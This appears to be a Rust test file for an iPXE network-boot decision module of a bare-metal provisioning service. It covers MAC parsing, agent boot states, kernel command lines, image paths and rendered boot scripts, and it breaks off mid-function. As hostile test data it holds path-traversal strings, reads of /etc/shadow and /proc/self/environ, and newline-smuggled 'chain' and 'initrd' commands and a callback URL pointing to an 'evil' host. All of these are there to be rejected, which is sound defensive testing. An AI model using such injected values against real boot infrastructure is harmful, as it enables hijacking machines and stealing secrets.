use super::*;
use crate::states::ProvisionState;
use serde_json::json;

const UUID: &str = "1be26c0b-03f2-4d2e-ae87-c02d7f33c123";
const API: &str = "http://10.0.2.2:6385";
const HTTP: &str = "http://10.0.2.2:8088";

fn mac() -> Mac {
    Mac::parse("52:54:00:12:34:56").unwrap()
}

fn settings() -> BootSettings {
    BootSettings { http_url: format!("{HTTP}/"), api_url: API.into(), default_images: true, ..Default::default() }
}

/// A node whose interfaces all use the agent, booting through iPXE.
fn agent_node(state: ProvisionState) -> Node {
    let mut n = Node { uuid: UUID.into(), driver: "redfish".into(), provision_state: state, ..Default::default() };
    n.interfaces.boot = "ipxe".into();
    n.interfaces.deploy = "direct".into();
    n.interfaces.inspect = "agent".into();
    n.interfaces.rescue = "agent".into();
    n
}

/// fake-hardware's defaults: nothing boots the agent.
fn fake_node(state: ProvisionState) -> Node {
    let mut n = Node { uuid: UUID.into(), driver: "fake-hardware".into(), provision_state: state, ..Default::default() };
    n.interfaces.boot = "fake".into();
    n.interfaces.deploy = "fake".into();
    n.interfaces.inspect = "fake".into();
    n.interfaces.rescue = "fake".into();
    n
}

fn decide_node(n: &Node, s: &BootSettings) -> Decision {
    decide(&mac(), Known::Node(n), s)
}

fn agent_of(d: &Decision) -> &AgentBoot {
    match d {
        Decision::Agent(a) => a,
        other => panic!("expected the agent, got {other:?}"),
    }
}

fn words(a: &AgentBoot) -> Vec<&str> {
    a.cmdline.split(' ').collect()
}

fn param<'a>(a: &'a AgentBoot, key: &str) -> Vec<&'a str> {
    a.cmdline.split(' ').filter_map(|w| w.strip_prefix(key).and_then(|r| r.strip_prefix('='))).collect()
}

fn reason(d: &Decision) -> String {
    d.reason().unwrap_or_else(|| panic!("no reason in {d:?}")).to_string()
}

// --- MAC addresses -------------------------------------------------------------------------

#[test]
fn macs_in_every_accepted_form() {
    for s in ["52:54:00:12:34:56", "52-54-00-12-34-56", "52:54:00:12:34:56".to_uppercase().as_str(), "01-52-54-00-12-34-56", "01-52:54:00:12:34:56"] {
        let m = Mac::parse(s).unwrap_or_else(|e| panic!("{s}: {e}"));
        assert_eq!(m, mac(), "{s}");
    }
    assert_eq!(mac().colon(), "52:54:00:12:34:56");
    assert_eq!(mac().hyphen(), "52-54-00-12-34-56");
    assert_eq!(mac().bootif(), "01-52-54-00-12-34-56");
    assert_eq!(Mac::parse("AA:BB:CC:DD:EE:FF").unwrap().to_string(), "aa:bb:cc:dd:ee:ff");
}

#[test]
fn hostile_macs_are_refused() {
    let long = "a".repeat(10_000);
    for s in [
        "",
        "52:54:00:12:34",
        "52:54:00:12:34:5",
        "52:54:00:12:34:567",
        "52:54:00:12:34:56:",
        "52:54:00-12:34:56",
        "52-54-00-12-34:56",
        "52.54.00.12.34.56",
        "5254.0012.3456",
        "525400123456",
        "g2:54:00:12:34:56",
        "52:54:00:12:34:5g",
        " 52:54:00:12:34:5",
        "52:54:00:12:34:5\n",
        "52:54:00:12:34:\0\0",
        "02-52-54-00-12-34-56",
        "01:52:54:00:12:34:56",
        "../../../etc/passwd",
        "..%2f..%2fetc%2fpass",
        "52:54:00:12:34:é",
        "+2:54:00:12:34:56",
        "-2:54:00:12:34:56",
        long.as_str(),
    ] {
        assert_eq!(Mac::parse(s), Err(MacError), "{s:?}");
    }
}

// --- which states boot the agent -----------------------------------------------------------

fn expected_purpose(st: ProvisionState) -> Option<Purpose> {
    use ProvisionState as S;
    match st {
        S::Inspecting | S::InspectWait => Some(Purpose::Inspection),
        S::Cleaning | S::CleanWait | S::CleanHold => Some(Purpose::Cleaning),
        S::Deploying | S::DeployWait | S::DeployHold => Some(Purpose::Deployment),
        S::Rescuing | S::RescueWait => Some(Purpose::Rescue),
        S::Servicing | S::ServiceWait | S::ServiceHold => Some(Purpose::Servicing),
        _ => None,
    }
}

#[test]
fn every_state_with_agent_interfaces() {
    let s = settings();
    for &st in ProvisionState::ALL {
        let d = decide_node(&agent_node(st), &s);
        match expected_purpose(st) {
            Some(p) => {
                let a = agent_of(&d);
                assert_eq!((a.purpose, a.node.as_deref()), (p, Some(UUID)), "{st}");
            }
            None => {
                assert!(matches!(d, Decision::LocalBoot { .. }), "{st}: {d:?}");
                assert_eq!(reason(&d), format!("node is in {st}, which boots nothing from the network"), "{st}");
                assert_eq!(d.node(), Some(UUID));
            }
        }
    }
}

#[test]
fn every_state_with_fake_interfaces_boots_locally() {
    let s = settings();
    for &st in ProvisionState::ALL {
        let d = decide_node(&fake_node(st), &s);
        assert!(matches!(d, Decision::LocalBoot { .. }), "{st}: {d:?}");
    }
    let r = |st| reason(&decide_node(&fake_node(st), &s));
    assert_eq!(r(ProvisionState::InspectWait), "node is in inspect wait with the fake inspect interface, which does not boot the ramdisk");
    assert_eq!(r(ProvisionState::CleanWait), "node is in clean wait with the fake deploy interface, which does not clean through the agent");
    assert_eq!(r(ProvisionState::DeployWait), "node is in wait call-back with the fake deploy interface, which does not deploy through the agent");
    assert_eq!(r(ProvisionState::RescueWait), "node is in rescue wait with the fake rescue interface, which does not boot the rescue ramdisk");
    assert_eq!(r(ProvisionState::ServiceWait), "node is in service wait with the fake deploy interface, which does not service through the agent");
}

#[test]
fn agent_inspection_with_fake_boot_is_served() {
    // What ferric's fake-hardware and redfish nodes look like today: in-band inspection, fake boot.
    let s = settings();
    let mut n = fake_node(ProvisionState::InspectWait);
    n.interfaces.inspect = "agent".into();
    assert_eq!(agent_of(&decide_node(&n, &s)).purpose, Purpose::Inspection);
    n.interfaces.inspect = "inspector".into();
    assert_eq!(agent_of(&decide_node(&n, &s)).purpose, Purpose::Inspection);
    n.provision_state = ProvisionState::Inspecting;
    assert_eq!(agent_of(&decide_node(&n, &s)).purpose, Purpose::Inspection);
    n.interfaces.inspect = "redfish".into();
    assert!(matches!(decide_node(&n, &s), Decision::LocalBoot { .. }), "out-of-band inspection boots nothing");
    n.interfaces.inspect = "no-inspect".into();
    assert!(matches!(decide_node(&n, &s), Decision::LocalBoot { .. }));
}

#[test]
fn every_agent_deploy_interface() {
    let s = settings();
    for deploy in ["direct", "custom-agent", "ansible", "ramdisk", "anaconda", "fake", ""] {
        let mut n = agent_node(ProvisionState::CleanWait);
        n.interfaces.deploy = deploy.into();
        let cleans = matches!(decide_node(&n, &s), Decision::Agent(_));
        assert_eq!(cleans, AGENT_CLEAN.contains(&deploy), "cleaning with {deploy}");
        n.provision_state = ProvisionState::ServiceWait;
        assert_eq!(matches!(decide_node(&n, &s), Decision::Agent(_)), cleans, "servicing with {deploy}");
        n.provision_state = ProvisionState::DeployWait;
        let deploys = matches!(decide_node(&n, &s), Decision::Agent(_));
        assert_eq!(deploys, ["direct", "custom-agent", "ansible"].contains(&deploy), "deploying with {deploy}");
    }
}

#[test]
fn boot_interfaces_that_do_not_network_boot() {
    let s = settings();
    for boot in ["ipxe", "pxe", "http-ipxe", "http", "fake"] {
        let mut n = agent_node(ProvisionState::InspectWait);
        n.interfaces.boot = boot.into();
        assert!(matches!(decide_node(&n, &s), Decision::Agent(_)), "{boot}");
    }
    for boot in ["redfish-virtual-media", "redfish-https", "idrac-redfish-virtual-media", "ilo-virtual-media", ""] {
        let mut n = agent_node(ProvisionState::CleanWait);
        n.interfaces.boot = boot.into();
        let d = decide_node(&n, &s);
        assert_eq!(reason(&d), format!("node is in clean wait but its {boot} boot interface does not boot from the network"), "{boot}");
    }
}

#[test]
fn disabled_ramdisk_for_cleaning_and_servicing() {
    let s = settings();
    for (st, key) in [(ProvisionState::CleanWait, "cleaning_disable_ramdisk"), (ProvisionState::Cleaning, "cleaning_disable_ramdisk"), (ProvisionState::ServiceWait, "service_disable_ramdisk")] {
        for (v, disabled) in [(json!(true), true), (json!("True"), true), (json!(false), false), (json!(null), false), (json!("no"), false)] {
            let mut n = agent_node(st);
            n.driver_internal_info.insert(key.into(), v.clone());
            let d = decide_node(&n, &s);
            assert_eq!(matches!(d, Decision::LocalBoot { .. }), disabled, "{st} {key}={v}");
            if disabled {
                assert_eq!(reason(&d), format!("node is in {st} with the ramdisk disabled ({key})"));
            }
        }
    }
    // The other operation's flag does not count.
    let mut n = agent_node(ProvisionState::CleanWait);
    n.driver_internal_info.insert("service_disable_ramdisk".into(), json!(true));
    assert!(matches!(decide_node(&n, &s), Decision::Agent(_)));
}

fn step(interface: &str, name: &str, priority: i64) -> Value {
    json!({"interface": interface, "step": name, "priority": priority, "args": {}})
}

#[test]
fn deploying_until_the_instance_boot_is_prepared() {
    let s = settings();
    let plan = json!([
        step("deploy", "deploy", 100),
        step("deploy", "write_image", 80),
        step("deploy", "prepare_instance_boot", 60),
        step("deploy", "tear_down_agent", 40),
        step("deploy", "switch_to_tenant_network", 30),
        step("deploy", "boot_instance", 20),
        step("bios", "apply_configuration", 10),
    ]);
    for (current, agent) in [
        ("", true),
        ("deploy", true),
        ("write_image", true),
        ("prepare_instance_boot", true),
        ("tear_down_agent", false),
        ("switch_to_tenant_network", false),
        ("boot_instance", false),
        ("apply_configuration", false),
    ] {
        let mut n = agent_node(ProvisionState::DeployWait);
        n.driver_internal_info.insert("deploy_steps".into(), plan.clone());
        if !current.is_empty() {
            let iface = if current == "apply_configuration" { "bios" } else { "deploy" };
            n.deploy_step = step(iface, current, 0).as_object().unwrap().clone();
        }
        let d = decide_node(&n, &s);
        assert_eq!(matches!(d, Decision::Agent(_)), agent, "{current}: {d:?}");
        if !agent {
            assert!(reason(&d).starts_with("node is in wait call-back and its instance's boot is prepared (deploy step "), "{current}");
        }
    }
    // A user step before prepare_instance_boot still wants the agent.
    let mut n = agent_node(ProvisionState::Deploying);
    n.driver_internal_info.insert("deploy_steps".into(), json!([step("raid", "apply", 90), step("deploy", "prepare_instance_boot", 60)]));
    n.deploy_step = step("raid", "apply", 90).as_object().unwrap().clone();
    assert!(matches!(decide_node(&n, &s), Decision::Agent(_)));
    // Without the plan, by the deploy interface's step names.
    let mut n = agent_node(ProvisionState::Deploying);
    n.deploy_step = step("deploy", "boot_instance", 20).as_object().unwrap().clone();
    assert!(matches!(decide_node(&n, &s), Decision::LocalBoot { .. }));
    n.deploy_step = step("deploy", "write_image", 80).as_object().unwrap().clone();
    assert!(matches!(decide_node(&n, &s), Decision::Agent(_)));
}

// --- kernel command lines ------------------------------------------------------------------

#[test]
fn inspection_command_line() {
    let a = agent_of(&decide_node(&agent_node(ProvisionState::InspectWait), &settings())).clone();
    assert_eq!(
        a.cmdline,
        "selinux=0 troubleshoot=0 text nofb vga=normal \
         ipa-inspection-callback-url=http://10.0.2.2:6385/v1/continue_inspection ipa-inspection-collectors=default,logs \
         ipa-api-url=http://10.0.2.2:6385 boot_method=pxe BOOTIF=01-52-54-00-12-34-56 initrd=ramdisk"
    );
    assert_eq!(a.kernel_url, "http://10.0.2.2:8088/images/kernel");
    assert_eq!(a.ramdisk_url, "http://10.0.2.2:8088/images/ramdisk");
}

#[test]
fn agent_command_lines_for_the_other_purposes_have_no_inspection_parameters() {
    let s = BootSettings { insecure: true, ..settings() };
    for st in [ProvisionState::CleanWait, ProvisionState::DeployWait, ProvisionState::RescueWait, ProvisionState::ServiceWait] {
        let a = agent_of(&decide_node(&agent_node(st), &s)).clone();
        assert_eq!(
            a.cmdline,
            "selinux=0 troubleshoot=0 text nofb vga=normal ipa-api-url=http://10.0.2.2:6385 ipa-insecure=1 boot_method=pxe BOOTIF=01-52-54-00-12-34-56 initrd=ramdisk",
            "{st}"
        );
    }
}

#[test]
fn insecure_collectors_extra_params_and_callback_override() {
    let s = BootSettings {
        insecure: true,
        inspection_collectors: "default,logs,pci-devices".into(),
        extra_kernel_params: "ipa-collect-lldp=1 ipa-inspection-collectors=default ipa-inspection-callback-url=http://evil/".into(),
        callback_url: "http://10.0.2.2:5050/v1/continue".into(),
        api_url: format!("{API}/"),
        ..settings()
    };
    let a = agent_of(&decide_node(&agent_node(ProvisionState::InspectWait), &s)).clone();
    assert_eq!(param(&a, "ipa-inspection-callback-url"), ["http://10.0.2.2:5050/v1/continue"], "extra params never replace the callback");
    assert_eq!(param(&a, "ipa-inspection-collectors"), ["default"], "extra params win over the collectors setting, as in Ironic");
    assert_eq!(param(&a, "ipa-collect-lldp"), ["1"]);
    assert_eq!(param(&a, "ipa-insecure"), ["1"]);
    assert_eq!(param(&a, "ipa-api-url"), ["http://10.0.2.2:6385"], "trailing slash trimmed");
    // Cleaning gets none of the inspection parameters.
    let c = agent_of(&decide_node(&agent_node(ProvisionState::CleanWait), &s)).clone();
    assert!(param(&c, "ipa-collect-lldp").is_empty() && param(&c, "ipa-inspection-callback-url").is_empty());
    // No collectors setting: IPA's own default.
    let s = BootSettings { inspection_collectors: String::new(), ..settings() };
    let a = agent_of(&decide_node(&agent_node(ProvisionState::InspectWait), &s)).clone();
    assert!(param(&a, "ipa-inspection-collectors").is_empty());
}

#[test]
fn kernel_append_params_from_instance_info_then_driver_info_then_settings() {
    let s = BootSettings { kernel_append_params: "console=ttyS0".into(), ..settings() };
    let mut n = agent_node(ProvisionState::CleanWait);
    let first = |n: &Node| words(agent_of(&decide_node(n, &s)))[3..].join(" ");
    assert!(first(&n).starts_with("console=ttyS0 ipa-api-url="));
    n.driver_info.insert("kernel_append_params".into(), json!("%default% nomodeset"));
    assert!(first(&n).starts_with("console=ttyS0 nomodeset ipa-api-url="), "{}", first(&n));
    n.instance_info.insert("kernel_append_params".into(), json!("quiet"));
    assert!(first(&n).starts_with("quiet ipa-api-url="));
    n.instance_info.insert("kernel_append_params".into(), json!(""));
    assert!(first(&n).starts_with("ipa-api-url="), "an empty value is a value");
    n.instance_info.insert("kernel_append_params".into(), json!(null));
    assert!(first(&n).starts_with("console=ttyS0 nomodeset"), "null is unset");
    // A newline would start another iPXE command.
    n.driver_info.insert("kernel_append_params".into(), json!("quiet\nshell"));
    assert_eq!(reason(&decide_node(&n, &s)), "driver_info kernel_append_params: control character '\\n' is not allowed");
    n.driver_info.insert("kernel_append_params".into(), json!(3));
    assert_eq!(reason(&decide_node(&n, &s)), "driver_info kernel_append_params must be a string, not 3");
}

#[test]
fn the_bootif_is_the_mac_asked_for() {
    let m = Mac::parse("AA-BB-CC-DD-EE-FF").unwrap();
    let a = agent_of(&decide(&m, Known::Node(&agent_node(ProvisionState::InspectWait)), &settings())).clone();
    assert_eq!(param(&a, "BOOTIF"), ["01-aa-bb-cc-dd-ee-ff"]);
    assert_eq!(words(&a).last(), Some(&"initrd=ramdisk"));
}

// --- images --------------------------------------------------------------------------------

#[test]
fn images_from_driver_info_urls_and_files() {
    let s = BootSettings { file_url_allowed_paths: vec!["/srv/images/".into()], ..settings() };
    let mut n = agent_node(ProvisionState::CleanWait);
    n.driver_info.insert("deploy_kernel".into(), json!("http://images.example/ipa.kernel"));
    n.driver_info.insert("deploy_ramdisk".into(), json!("https://images.example/x/ipa.initramfs?sig=1#frag"));
    let a = agent_of(&decide_node(&n, &s)).clone();
    assert_eq!((a.kernel_url.as_str(), a.ramdisk_url.as_str()), ("http://images.example/ipa.kernel", "https://images.example/x/ipa.initramfs?sig=1#frag"));
    assert_eq!(param(&a, "initrd"), ["ipa.initramfs"], "iPXE names the image after the URL's file name");
    n.driver_info.insert("deploy_kernel".into(), json!("file:///srv/images/ipa.kernel"));
    n.driver_info.insert("deploy_ramdisk".into(), json!("/srv/images/./ipa.initramfs"));
    let a = agent_of(&decide_node(&n, &s)).clone();
    assert_eq!(a.kernel_url, format!("{HTTP}/images/{UUID}/deploy_kernel"));
    assert_eq!(a.ramdisk_url, format!("{HTTP}/images/{UUID}/deploy_ramdisk"));
    assert_eq!(param(&a, "initrd"), ["deploy_ramdisk"]);
    assert_eq!(image_source(&n, "deploy_ramdisk", &s.file_url_allowed_paths), Ok(ImageSource::File("/srv/images/ipa.initramfs".into())));
    assert_eq!(image_source(&n, "deploy_kernel", &s.file_url_allowed_paths), Ok(ImageSource::File("/srv/images/ipa.kernel".into())));
    // Rescue uses the rescue images.
    let mut r = agent_node(ProvisionState::RescueWait);
    r.driver_info.insert("deploy_kernel".into(), json!("http://x/deploy.k"));
    r.driver_info.insert("deploy_ramdisk".into(), json!("http://x/deploy.r"));
    r.driver_info.insert("rescue_kernel".into(), json!("http://x/rescue.k"));
    r.driver_info.insert("rescue_ramdisk".into(), json!("http://x/rescue.r"));
    let a = agent_of(&decide_node(&r, &s)).clone();
    assert_eq!((a.kernel_url.as_str(), a.ramdisk_url.as_str()), ("http://x/rescue.k", "http://x/rescue.r"));
    // No rescue images: the defaults, never the deploy images.
    r.driver_info.remove("rescue_kernel");
    r.driver_info.remove("rescue_ramdisk");
    assert_eq!(agent_of(&decide_node(&r, &s)).kernel_url, format!("{HTTP}/images/kernel"));
}

#[test]
fn images_that_cannot_be_booted() {
    let s = BootSettings { file_url_allowed_paths: vec!["/srv/images".into()], ..settings() };
    let fail = |k: Value, r: Value| {
        let mut n = agent_node(ProvisionState::InspectWait);
        n.driver_info.insert("deploy_kernel".into(), k);
        n.driver_info.insert("deploy_ramdisk".into(), r);
        match decide_node(&n, &s) {
            Decision::Fail { reason, node } => {
                assert_eq!(node.as_deref(), Some(UUID));
                reason
            }
            other => panic!("expected a failure, got {other:?}"),
        }
    };
    let ok = json!("http://x/r");
    assert_eq!(
        fail(json!("http://x/k"), json!(null)),
        "Cannot validate PXE bootloader. Some parameters were missing in node's driver_info and configuration. Missing are: ['deploy_ramdisk']"
    );
    assert_eq!(
        fail(json!(""), ok.clone()),
        "Cannot validate PXE bootloader. Some parameters were missing in node's driver_info and configuration. Missing are: ['deploy_kernel']"
    );
    assert_eq!(
        fail(json!("0d3b2f47-25b6-4bd4-8a2e-5a1de7c8d5c3"), ok.clone()),
        "driver_info deploy_kernel \"0d3b2f47-25b6-4bd4-8a2e-5a1de7c8d5c3\" is neither an http(s) URL nor a local file: ferric has no image service"
    );
    assert_eq!(fail(json!("ipa.kernel"), ok.clone()), "driver_info deploy_kernel \"ipa.kernel\" is neither an http(s) URL nor a local file: ferric has no image service");
    assert_eq!(fail(json!("ftp://x/k"), ok.clone()), "driver_info deploy_kernel \"ftp://x/k\" is neither an http(s) URL nor a local file: ferric has no image service");
    assert_eq!(fail(json!("file:///etc/shadow"), ok.clone()), "driver_info deploy_kernel: Security: The path /etc is not permitted in file URLs");
    assert_eq!(fail(json!("/proc/self/environ"), ok.clone()), "driver_info deploy_kernel: Security: The path /proc is not permitted in file URLs");
    assert_eq!(fail(json!("/home/x/k"), ok.clone()), "driver_info deploy_kernel: Security: Path /home/x/k is not allowed for image source file URLs");
    assert_eq!(fail(json!("/srv/images/../../etc/shadow"), ok.clone()), "driver_info deploy_kernel: \"/srv/images/../../etc/shadow\" is not a plain absolute path");
    assert_eq!(fail(json!("/srv/imagesX/k"), ok.clone()), "driver_info deploy_kernel: Security: Path /srv/imagesX/k is not allowed for image source file URLs");
    assert_eq!(fail(json!("http://x/k k"), ok.clone()), "driver_info deploy_kernel: \"http://x/k k\" contains whitespace, control characters or '$'");
    assert_eq!(fail(json!("http://x/k\ninitrd http://evil/r"), ok.clone()), "driver_info deploy_kernel: \"http://x/k?initrd http://evil/r\" contains whitespace, control characters or '$'");
    assert_eq!(fail(json!("http://x/${x}"), ok.clone()), "driver_info deploy_kernel: \"http://x/?{x}\" contains whitespace, control characters or '$'");
    assert_eq!(fail(json!(7), ok.clone()), "driver_info deploy_kernel must be a string, not 7");
    assert_eq!(fail(ok.clone(), json!("http://x/")), "driver_info deploy_ramdisk \"http://x/\" names no file");
    // Neither in driver_info nor in the settings.
    let s = BootSettings { default_images: false, ..settings() };
    assert_eq!(
        reason(&decide_node(&agent_node(ProvisionState::InspectWait), &s)),
        "Cannot boot the agent for inspection: the node has no driver_info deploy_kernel and deploy_ramdisk, and [pxe] kernel and ramdisk are not set"
    );
    assert_eq!(
        reason(&decide_node(&agent_node(ProvisionState::RescueWait), &s)),
        "Cannot boot the agent for rescue: the node has no driver_info rescue_kernel and rescue_ramdisk, and [pxe] kernel and ramdisk are not set"
    );
}

#[test]
fn paths_are_normalised_and_checked() {
    assert_eq!(normalize_path("/a//b/./c/"), Some("/a/b/c".into()));
    assert_eq!(normalize_path("/"), Some("/".into()));
    for bad in ["a/b", "", "/a/../b", "/a/..", "/a/b\0", "/a\n/b", "./a"] {
        assert_eq!(normalize_path(bad), None, "{bad:?}");
    }
    let allowed = vec!["/var/lib/ironic".to_string(), "/srv/".to_string(), "/".to_string(), "relative".to_string()];
    assert!(path_allowed("/var/lib/ironic/x", &allowed).is_ok());
    assert!(path_allowed("/var/lib/ironic", &allowed).is_ok());
    assert!(path_allowed("/srv/a/b", &allowed).is_ok());
    assert!(path_allowed("/var/lib/ironicX", &allowed).is_err(), "a prefix is not a parent");
    assert!(path_allowed("/usr/bin/x", &allowed).is_err(), "/ in the list allows nothing by itself");
    for blocked in ["/dev/sda", "/sys/x", "/proc/1/mem", "/boot/vmlinuz", "/etc/passwd", "/run/secrets", "/etc"] {
        assert!(path_allowed(blocked, &["/".into(), "/etc".into(), "/dev".into(), "/run".into()]).is_err(), "{blocked}");
    }
    assert!(path_allowed("/x", &[]).is_err(), "an empty allow list allows nothing");
}

// --- unknown machines ----------------------------------------------------------------------

#[test]
fn unknown_macs() {
    let unknown = |pending| Known::Unknown { inspection_pending: pending };
    let s = settings();
    let d = decide(&mac(), unknown(false), &s);
    assert_eq!(d, Decision::LocalBoot { node: None, reason: "no node has a port with MAC address 52:54:00:12:34:56 and auto-discovery is off".into(), boot_mode: None });
    // Some node waits for in-band inspection: its machine may not have a known port yet.
    let a = agent_of(&decide(&mac(), unknown(true), &s)).clone();
    assert_eq!((a.purpose, a.node), (Purpose::Inspection, None));
    let strict = BootSettings { require_managed_boot: true, ..settings() };
    assert_eq!(
        reason(&decide(&mac(), unknown(true), &strict)),
        "no node has a port with MAC address 52:54:00:12:34:56 and auto-discovery is off and managed boot is required"
    );
    // Discovery on: always the discovery agent, whatever else.
    for (pending, s) in [(false, &settings()), (true, &strict)] {
        let s = BootSettings { discovery: true, kernel_append_params: "console=ttyS0".into(), ..s.clone() };
        let a = agent_of(&decide(&mac(), unknown(pending), &s)).clone();
        assert_eq!(a.purpose, Purpose::Discovery);
        assert_eq!(a.node, None);
        assert_eq!(
            a.cmdline,
            "selinux=0 troubleshoot=0 text console=ttyS0 ipa-inspection-callback-url=http://10.0.2.2:6385/v1/continue_inspection \
             ipa-inspection-collectors=default,logs ipa-api-url=http://10.0.2.2:6385 boot_method=pxe BOOTIF=01-52-54-00-12-34-56 initrd=ramdisk"
        );
        assert_eq!((a.kernel_url.as_str(), a.ramdisk_url.as_str()), ("http://10.0.2.2:8088/images/kernel", "http://10.0.2.2:8088/images/ramdisk"));
    }
    // Discovery without images to boot.
    let s = BootSettings { discovery: true, default_images: false, ..settings() };
    assert_eq!(
        decide(&mac(), unknown(false), &s),
        Decision::Fail { node: None, reason: "no node has a port with MAC address 52:54:00:12:34:56, and [pxe] kernel and ramdisk are not set for discovery".into() }
    );
}

// --- boot modes ----------------------------------------------------------------------------

#[test]
fn boot_mode_sources() {
    let mut n = fake_node(ProvisionState::Active);
    assert_eq!(boot_mode(&n), None);
    n.properties.insert("capabilities".into(), json!("cpu_vt:true, boot_mode:bios"));
    assert_eq!(boot_mode(&n), Some(BootMode::Bios));
    n.instance_info.insert("deploy_boot_mode".into(), json!("UEFI"));
    assert_eq!(boot_mode(&n), Some(BootMode::Uefi));
    n.boot_mode = Some("bios".into());
    assert_eq!(boot_mode(&n), Some(BootMode::Bios), "what the BMC reports now wins");
    n.boot_mode = Some("weird".into());
    assert_eq!(boot_mode(&n), Some(BootMode::Uefi));
    let d = decide_node(&n, &settings());
    assert!(matches!(d, Decision::LocalBoot { boot_mode: Some(BootMode::Uefi), .. }));
}

// --- scripts -------------------------------------------------------------------------------

#[test]
fn the_agent_script() {
    let s = settings();
    let d = decide_node(&agent_node(ProvisionState::InspectWait), &s);
    assert_eq!(
        render(&d, &mac(), &s),
        format!(
            "#!ipxe\n\n# ferric: the agent for inspection of node {UUID}, booting from 52:54:00:12:34:56\n\n\
             set attempts:int32 10\nset i:int32 0\n\n\
             :deploy\nimgfree\n\
             kernel http://10.0.2.2:8088/images/kernel selinux=0 troubleshoot=0 text nofb vga=normal \
             ipa-inspection-callback-url=http://10.0.2.2:6385/v1/continue_inspection ipa-inspection-collectors=default,logs \
             ipa-api-url=http://10.0.2.2:6385 boot_method=pxe BOOTIF=01-52-54-00-12-34-56 initrd=ramdisk || goto retry\n\
             initrd http://10.0.2.2:8088/images/ramdisk || goto retry\nboot\n\n\
             :retry\niseq ${{i}} ${{attempts}} && goto fail ||\ninc i\necho No response, retrying in ${{i}} seconds.\nsleep ${{i}}\ngoto deploy\n\n\
             :fail\necho Failed to get a response after ${{attempts}} attempts\necho Powering off in 30 seconds.\nsleep 30\npoweroff\n"
        )
    );
    let s = BootSettings { ipxe_timeout: 60, ..settings() };
    let text = render(&decide(&mac(), Known::Unknown { inspection_pending: true }, &s), &mac(), &s);
    assert!(text.contains("# ferric: the agent for inspection of a machine no node knows, booting from 52:54:00:12:34:56\n"));
    assert!(text.contains("\nkernel --timeout 60000 http://10.0.2.2:8088/images/kernel "));
    assert!(text.contains("\ninitrd --timeout 60000 http://10.0.2.2:8088/images/ramdisk || goto retry\n"));
}

#[test]
fn local_boot_scripts_for_each_boot_mode() {
    let s = settings();
    let text = |mode: Option<&str>| {
        let mut n = fake_node(ProvisionState::Manageable);
        n.boot_mode = mode.map(str::to_string);
        render(&decide_node(&n, &s), &mac(), &s)
    };
    let head = format!("#!ipxe\n\n# ferric: node {UUID} boots from its local disk: node is in manageable, which boots nothing from the network\n\n");
    assert_eq!(text(Some("uefi")), format!("{head}goto exit\nsanboot --no-describe || goto exit\n\n:exit\nexit 0\n"));
    assert_eq!(text(Some("bios")), format!("{head}sanboot --no-describe || goto exit\n\n:exit\nexit 0\n"));
    assert_eq!(text(None), format!("{head}iseq ${{platform}} efi && goto exit ||\nsanboot --no-describe || goto exit\n\n:exit\nexit 0\n"));
    let unknown = render(&decide(&mac(), Known::Unknown { inspection_pending: false }, &s), &mac(), &s);
    assert_eq!(
        unknown,
        "#!ipxe\n\n# ferric: MAC 52:54:00:12:34:56 boots from its local disk: no node has a port with MAC address 52:54:00:12:34:56 and auto-discovery is off\n\n\
         iseq ${platform} efi && goto exit ||\nsanboot --no-describe || goto exit\n\n:exit\nexit 0\n"
    );
}

#[test]
fn the_failure_script_cannot_be_injected_into() {
    let s = BootSettings { file_url_allowed_paths: vec!["/srv".into()], ..settings() };
    let mut n = agent_node(ProvisionState::CleanWait);
    n.driver_info.insert("deploy_kernel".into(), json!("evil\nchain http://evil/${x}"));
    n.driver_info.insert("deploy_ramdisk".into(), json!("http://x/r"));
    let text = render(&decide_node(&n, &s), &mac(), &s);
    assert_eq!(
        text,
        format!(
            "#!ipxe\n\n# ferric: node {UUID} cannot boot the agent\n\n\
             echo ferric cannot boot the agent: driver_info deploy_kernel \"evil?chain http://evil/?{{x}}\" is neither an http(s) URL nor a local file: ferric has no image service\n\
             echo Powering off in 30 seconds.\nsleep 30\npoweroff\n"
        )
    );
    // Every line of every script is one of ferric's own commands.
    assert_eq!(text.lines().filter(|l| l.starts_with("chain")).count(), 0);
    // A node UUID that is not one never reaches a URL or a comment as it is.
    let mut n = agent_node(ProvisionState::CleanWait);
    n.uuid = "x\nchain http://evil".into();
    n.driver_info.insert("deploy_kernel".into(), json!("/srv/k"));
    n.driver_info.insert("deploy_ramdisk".into(), json!("/srv/r"));
    let text = render(&decide_node(&n, &s), &mac(), &s);
    assert!(!text.contains("\nchain"), "{text}");
}

#[test]
fn the_entry_script() {
    let text = entry_script(&settings());
    assert!(text.starts_with("#!ipxe\n"));
    assert!(text.contains("\nchain http://10.0.2.2:8088/ipxe/${net${netid}/mac:hexhyp} || goto loop\n"));
    assert!(text.contains("\n:loop_done\nchain http://10.0.2.2:8088/ipxe/fallback/${mac:hexhyp} || goto boot_failed\n"));
    assert!(text.contains("\n:old_rom\nchain http://10.0.2.2:8088/ipxe/${mac:hexhyp} || chain http://10.0.2.2:8088/ipxe/fallback/${mac:hexhyp} || goto boot_failed\n"));
    assert!(text.contains("\nisset ${net${netid}/mac} || goto loop_done\n"));
    assert!(!text.contains("//ipxe"), "the trailing slash of http_url is not doubled");
}

#[test]
fn settings_are_validated() {
    assert_eq!(settings().validate(), Ok(()));
    let bad = |f: &dyn Fn(&mut BootSettings)| {
        let mut s = settings();
        f(&mut s);
        s.validate().unwrap_err()
    };
    assert_eq!(bad(&|s| s.http_url = "10.0.2.2:8088".into()), "[pxe] http_url: \"10.0.2.2:8088\" is not an http:// or https:// URL");
    assert_eq!(bad(&|s| s.http_url = "http://".into()), "[pxe] http_url: \"http://\" has no host");
    assert_eq!(bad(&|s| s.api_url = "http://a b".into()), "[pxe] api_url: \"http://a b\" contains whitespace, control characters or '$'");
    assert_eq!(bad(&|s| s.callback_url = "x".into()), "[inspector] callback_endpoint_override: \"x\" is not an http:// or https:// URL");
    assert_eq!(bad(&|s| s.kernel_append_params = "a\rb".into()), "[pxe] kernel_append_params: control character '\\r' is not allowed");
    assert_eq!(bad(&|s| s.extra_kernel_params = "a=1 novalue".into()), "[inspector] extra_kernel_params: Invalid key-value pair in extra_kernel_params: novalue");
    assert_eq!(bad(&|s| s.extra_kernel_params = "=1".into()), "[inspector] extra_kernel_params: Invalid key-value pair in extra_kernel_params: =1");
    assert_eq!(bad(&|s| s.inspection_collectors = "default, logs".into()), "[pxe] ipa_inspection_collectors: a comma-separated list without spaces is expected");
    assert_eq!(bad(&|s| s.file_url_allowed_paths = vec!["srv".into()]), "[conductor] file_url_allowed_paths: \"srv\" is not an absolute path");
